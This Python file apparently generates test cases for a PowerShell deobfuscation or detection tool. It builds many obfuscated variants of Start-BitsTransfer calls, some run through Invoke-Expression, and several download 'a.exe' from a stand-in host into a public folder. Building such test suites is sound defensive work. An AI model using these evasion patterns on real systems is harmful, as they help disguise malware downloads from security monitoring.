"""Constant expressions: reference b.5."""

from .case import NAMED, PLAIN, TO, URL, down, ps


def codes(text, between=",", base=10, key=0):
    digits = {2: "b", 8: "o", 10: "d", 16: "x"}[base]
    return between.join(format(ord(c) ^ key, digits) for c in text)


NAME = "Start-BitsTransfer"
BACKWARDS = NAME[::-1]


def named(expression, shows, obfuscation, before=""):
    """The cmdlet's name worked out and called."""
    return down(ps(f"{before}&({expression}) {NAMED}"), shows, "call-operator " + obfuscation)


def pieces():
    yield named("'Start'+'-Bits'+'Transfer'", "+ of texts", "concatenation")
    yield named("'Sta' + \"rt-B\" + 'itsTran' + 'sfer'", "+ of both quotes", "concatenation")
    yield named("'{2}{0}{1}'-f'Bits','Transfer','Start-'", "-f", "format")
    yield named("\"{1}{0}\" -f ('Tran'+'sfer'),'Start-Bits'", "-f and +", "format concatenation")
    yield named("'{0}-Bits{1,8}'-f'Start','Transfer'", "-f with a width", "format")
    yield named("[string]::Format('{1}{0}','-BitsTransfer','Start')", "String.Format", "format")
    yield named("'Start','BitsTransfer'-join'-'", "-join at the dash", "join")
    yield named("-join('Start-','Bits','Transfer')", "unary -join", "join")
    yield named("[string]::Join('',('Start-Bits','Transfer'))", "String.Join", "join")
    yield named("[string]::Concat('Start-','Bits','Transfer')", "String.Concat", "concatenation")
    yield named("\"$('Start')-Bits$('Trans'+'fer')\"", "sub-expressions in a text",
                "concatenation")


def characters():
    yield named("[char]83+'tart-BitsTransfer'", "[char] and a text", "char-code")
    yield named("\"$([char]0x53)tart-BitsTransfer\"", "[char] of a hexadecimal number",
                "char-code")
    yield named(f"-join[char[]]({codes(NAME)})", "[char[]]", "char-code join")
    yield named(f"({codes(NAME)}|%{{[char]$_}})-join''", "[char] for each", "char-code join")
    yield named(f"-join({codes(NAME)}|ForEach-Object{{[char][int]$_}})", "the same in full",
                "char-code")
    yield named(f"[string]::Join('',[char[]]({codes(NAME)}))", "String.Join of characters",
                "char-code")
    yield named(f"('{codes(NAME, '~', 16)}'-split'~'|%{{[char][convert]::ToInt16($_,16)}})-join''",
                "split codes, base 16", "split char-code")
    yield named(f"('{codes(NAME, '!', 8)}'.Split('!')|%{{[char][convert]::ToInt32($_,8)}})-join''",
                "split codes, base 8", "split char-code")
    yield named(f"-join('{codes(NAME, '_', 2)}'-split'_'|%{{[char][convert]::ToInt32($_,2)}})",
                "split codes, base 2", "split char-code")
    yield named(f"('{codes(NAME, 'x')}'.Split('x')|%{{[char][int]$_}})-join''",
                "split codes, base 10", "split char-code")
    yield named(f"({codes(NAME, key=41)}|%{{[char]($_ -bxor 41)}})-join''", "-bxor", "bxor")
    yield named(f"-join({codes(NAME, key=0x2F)}|%{{[char]($_ -BXOR 0x2F)}})",
                "-bxor of a hexadecimal key", "bxor")
    yield down(ps(f"iex(-join[char[]]({codes(PLAIN)}))"), "the whole as characters",
               "char-code invoke-expression")
    yield down(ps(f"(({codes(PLAIN, key=7)})|%{{[char]($_-bxor7)}})-join''|iex"),
               "the whole by -bxor", "bxor invoke-expression")


def edits():
    yield named(f"'{BACKWARDS}'[-1..-18]-join''", "backwards by a range", "reverse")
    yield named(f"-join'{BACKWARDS}'[17..0]", "backwards from the end", "reverse")
    yield named("-join$c", "backwards in place", "reverse variable",
                before=f"$c='{BACKWARDS}'.ToCharArray();[array]::Reverse($c);")
    yield named(f"-join([regex]::Matches('{BACKWARDS}','.','RightToLeft')|%{{$_.Value}})",
                "backwards by a regular expression", "reverse")
    yield named(f"-join[regex]::Matches('{BACKWARDS}','.','RightToLeft')", "the same, matches",
                "reverse")
    yield down(ps(f"iex ('{PLAIN[::-1]}'[-1..-{len(PLAIN)}]-join'')"), "the whole backwards",
               "reverse invoke-expression")
    yield named("'StZartZ-BiZtsTransfer'.Replace('Z','')", "Replace minds case", "replace")
    yield named("'StQQart-BQQitsTransfer'-replace'qq',''", "-replace doesn't", "replace")
    yield named("'StQart-BQitsTransfer'-creplace'Q'", "-creplace, nothing put", "replace")
    yield named("'Xtart-BitsTranXfer'.Replace('X','s')", "put back", "replace")
    yield named("'Start-BitsTrans\u00a7\u00a7\u00a7'.Replace('\u00a7\u00a7\u00a7','fer')",
                "other characters", "replace")
    yield named("('Start-BXitXsTransfer'-split'X')-join''", "-split and -join", "split join")
    yield named("'Star~t-Bits~Transfer'.Split('~')-join''", "Split and -join", "split join")
    yield named("'abStart-BitsTransfercd'.Substring(2,18)", "Substring", "substring")
    yield named("'StartXX-BitsTransfer'.Remove(5,2)", "Remove", "substring")
    yield named("'Start-Transfer'.Insert(6,'Bits')", "Insert", "substring")
    yield named("'__Start-BitsTransfer_'.Trim('_')", "Trim", "")
    yield named("'xxStart-BitsTransfer'[2..19]-join''", "a range", "substring")


def variables():
    yield down(ps(f"$a='Bits';& \"Start-${{a}}Transfer\" {NAMED}"), "a variable in a text",
               "variable")
    yield down(ps(f"$a='Start-';$b='BitsTransfer';&($a+$b) {NAMED}"), "variables added",
               "variable concatenation")
    yield down(ps(f"$a='Start-Bits';$a+='Transfer';&$a {NAMED}"), "added to", "variable")
    yield down(ps(f"sv x 'Start-BitsTransfer';&(gv x).Value {NAMED}"), "sv and gv", "variable")
    yield down(ps(f"Set-Variable -Name x -Value ('Start-'+'BitsTransfer');&(Get-Variable x "
                  f"-ValueOnly) {NAMED}"), "the same in full", "variable")
    yield down(ps(f"$env:x='Start-BitsTransfer';&$env:x {NAMED}"), "an environment variable",
               "variable")
    yield down(ps(f"$u='http://'+'files.example.com';Start-BitsTransfer \"$u/a.exe\" {TO}"),
               "a URL put together", decoded=f"Start-BitsTransfer {URL} {TO}",
               obfuscation="concatenation")
    yield down(ps(f"$u='{URL}';$d='{TO}';Start-BitsTransfer -Source $u -Destination $d"),
               "both arguments from variables", decoded="", obfuscation="")
    yield down(ps(f"Start-BitsTransfer ('http://files'+'.example.com/a.exe') (\"{{1}}{{0}}\"-f"
                  f"'Public\\a.exe','C:\\Users\\')"), "arguments in parentheses",
               "concatenation format", decoded=f"Start-BitsTransfer {URL} {TO}")
    yield down(ps(f"Start-BitsTransfer -Source:('{URL[::-1]}'[-1..-{len(URL)}]-join'') "
                  f"-Destination:{TO}"), "an argument backwards", "reverse", decoded="")
    yield down(ps(f"$c='St'+'art';$p=@{{So=('{URL}');Dest='{TO}'}};&\"$c-Bits$('Transfer')\" @p"),
               "a hashtable, a variable, a sub-expression", "variable", decoded="")
    yield down(ps(f"sal z ('Start-Bits'+'Transfer');z {NAMED}"), "an alias of an expression",
               "alias concatenation")
    yield down(ps("&('St'+'art'+[char]45+('{0}{1}'-f'Bi','ts')+(-join'refsnarT'[-1..-8])) "
                  + NAMED), "many at once", "concatenation char-code format reverse")


def cases():
    for group in (pieces, characters, edits, variables):
        yield from group()
